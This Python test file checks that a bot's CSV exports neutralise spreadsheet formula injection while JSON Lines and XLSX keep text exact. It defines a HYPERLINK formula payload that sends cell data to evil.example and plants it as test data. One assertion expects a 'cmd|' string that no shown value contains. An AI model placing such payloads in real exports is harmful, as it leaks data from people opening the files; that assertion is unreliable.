"""CSV cells that a spreadsheet would run as formulas are neutralised (issue 12, item 3):
a text cell starting with = + - @ tab or CR gets a leading ', on the fast SQLite path and
in the general writer alike; numbers keep their sign; JSON Lines and XLSX stay exact."""

from __future__ import annotations

import csv
import io
import json
import os
import sqlite3
import tempfile
import zipfile
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

import bot.exporting
from bot.exporting import ExportRequest, write_export
from bot.exporting import writers as writers_module
from bot.exporting.writers import neutralise_formula
from storage import Storage
from storage.csv_cells import cells_query, lines_query, zone_spans
from storage.csv_chunks import ChunkRenderer, CsvPlan
from storage.exports import Column, DataSet, ExportFilter, Kind
from tests.export_data import DAY, populate

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
TRIGGERS = [EVIL, "+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "=1"]
HARMLESS = ["plain", "", "a=b", "'quoted", "100%", "里面"]

TABLE = DataSet(
    name="t",
    columns=(
        Column("id", Kind.INT),
        Column("n", Kind.INT),
        Column("txt", Kind.TEXT),
        Column("x", Kind.REAL),
        Column("timezone", Kind.TEXT),
    ),
    query=lambda f: "SELECT id, n, txt, x, tz FROM t ORDER BY id",
)
FILTER = ExportFilter(date(2026, 1, 1), date(2026, 12, 31), "Asia/Shanghai")


def test_neutralise_prefixes_only_text_that_starts_a_formula() -> None:
    for text in TRIGGERS:
        assert neutralise_formula(text, "UTC") == "'" + text
    for text in HARMLESS:
        assert neutralise_formula(text, "UTC") == text
    assert neutralise_formula(None, "UTC") is None
    assert neutralise_formula(-5, "UTC") == -5


def _fast_csv(values: list[tuple[Any, ...]], batch: int) -> list[list[str]]:
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "t.db"
        conn = sqlite3.connect(path, isolation_level=None)
        conn.execute("CREATE TABLE t (id INTEGER PRIMARY KEY, n INTEGER, txt TEXT, x REAL, tz)")
        conn.executemany("INSERT INTO t(n, txt, x, tz) VALUES (?, ?, ?, 'UTC')", values)
        conn.close()
        spans = zone_spans({"UTC"}, FILTER)
        plan = CsvPlan(
            str(path), lines_query(TABLE, FILTER, spans), cells_query(TABLE, FILTER, spans)
        )
        renderer = ChunkRenderer(plan.db_path)
        try:
            out = io.BytesIO()
            renderer.render(plan, FILTER.params(), out, batch)
        finally:
            renderer.close()
    return list(csv.reader(io.StringIO(out.getvalue().decode(), newline="")))


@pytest.mark.parametrize("batch", [1, 100])
def test_fast_path_neutralises_text_and_keeps_negative_numbers(batch: int) -> None:
    values = [
        (
            -7,
            text,
            -1.5,
        )
        for text in TRIGGERS + HARMLESS
    ]
    rows = _fast_csv(values, batch)
    for (n, text, x), row in zip(values, rows, strict=True):
        assert row[1] == str(n) and row[3] == repr(x)  # numbers: no prefix
        expected = "'" + text if text in TRIGGERS else text
        assert row[2] == expected, (text, row)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.lists(
        st.text(
            st.characters(blacklist_categories=["Cs"], blacklist_characters="\x00"), max_size=6
        ),
        min_size=1,
        max_size=8,
    )
)
def test_no_csv_text_cell_starts_a_formula(texts: list[str]) -> None:
    rows = _fast_csv([(1, t, 0.5) for t in texts], 3)
    for text, row in zip(texts, rows, strict=True):
        assert row[2] == neutralise_formula(text, "UTC")
        assert not row[2] or row[2][0] not in "=+-@\t\r"


async def _export(storage: Storage, folder: Path, fmt: str, name: str) -> Path:
    os.makedirs(folder, exist_ok=True)
    flt = ExportFilter(date(2026, 11, 1), date(2026, 11, 30), "Asia/Shanghai")
    out = folder / f"{name}.{fmt}"
    await write_export(storage, ExportRequest((name,), fmt, flt), out)
    return out


async def _evil_people(storage: Storage) -> None:
    await populate(storage)
    await storage.db.execute(
        "UPDATE people SET name = ?, unit = '+86 bureau' WHERE telegram_id = 12", (EVIL,)
    )
    await storage.db.execute(
        "UPDATE diary_entries SET text = '-1+1 visited' WHERE local_day = ?", (DAY.isoformat(),)
    )


async def test_both_csv_paths_neutralise_real_exports(
    storage: Storage, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    await _evil_people(storage)
    fast = {
        n: (await _export(storage, tmp_path / "fast", "csv", n)).read_bytes()
        for n in ("checkins", "diaries")
    }
    monkeypatch.setattr(writers_module, "rendered_by_sqlite", lambda fmt, ds: False)
    monkeypatch.setattr(bot.exporting, "rendered_by_sqlite", lambda fmt, ds: False)
    general = {
        n: (await _export(storage, tmp_path / "gen", "csv", n)).read_bytes()
        for n in ("checkins", "diaries")
    }
    assert fast == general
    for data in fast.values():
        for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")):
            for cell in row:
                assert not cell or cell[0] not in "=+@\t\r", row
                # A minus is left only on numbers.
                if cell.startswith("-"):
                    float(cell)
    assert b"'=cmd|" in fast["checkins"] and b"'-1+1 visited" in fast["diaries"]


async def test_jsonl_and_xlsx_keep_the_text_exact(storage: Storage, tmp_path: Path) -> None:
    await _evil_people(storage)
    jsonl = await _export(storage, tmp_path, "jsonl", "diaries")
    texts = [json.loads(line)["text"] for line in jsonl.read_text().splitlines()]
    assert "-1+1 visited" in texts
    xlsx = await _export(storage, tmp_path, "xlsx", "diaries")
    book = load_workbook(xlsx, read_only=True)
    cells = [c for row in book.worksheets[0].iter_rows(values_only=True) for c in row]
    assert "-1+1 visited" in cells
    assert not zipfile.is_zipfile(jsonl)
